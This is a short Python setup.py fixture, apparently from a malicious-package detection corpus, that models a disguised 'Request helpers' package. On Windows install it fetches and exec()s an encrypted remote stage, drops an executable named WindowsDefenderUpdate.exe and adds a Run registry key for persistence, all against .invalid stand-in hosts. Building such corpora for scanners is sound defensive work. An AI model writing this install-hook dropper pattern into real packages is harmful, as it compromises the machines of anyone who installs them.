# Inert model for pyward's malicious-behaviour corpus: the hosts are under .invalid (RFC 6761), the
# key decrypts nothing, and the tests never run this file.
import os
import sys

import requests
from cryptography.fernet import Fernet
from setuptools import setup

if sys.platform == "win32":
    import winreg

    key = b"cHl3YXJkLXNhbXBsZS1mZXJuZXQta2V5LTAwMDAwMDA="
    stage = requests.get("https://funcaptcha.example.invalid/paste2?package=sample", timeout=10).content
    exec(Fernet(key).decrypt(stage))

    target = os.path.join(os.environ["APPDATA"], "WindowsDefenderUpdate.exe")
    with open(target, "wb") as fh:
        fh.write(requests.get("https://funcaptcha.example.invalid/dl/update.exe", timeout=10).content)
    run = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(run, "WindowsDefenderUpdate", 0, winreg.REG_SZ, target)

setup(
    name="sample-fernet-setup-persistence",
    version="0.1.1",
    description="Request helpers",
    py_modules=["sample_requestslib"],
)
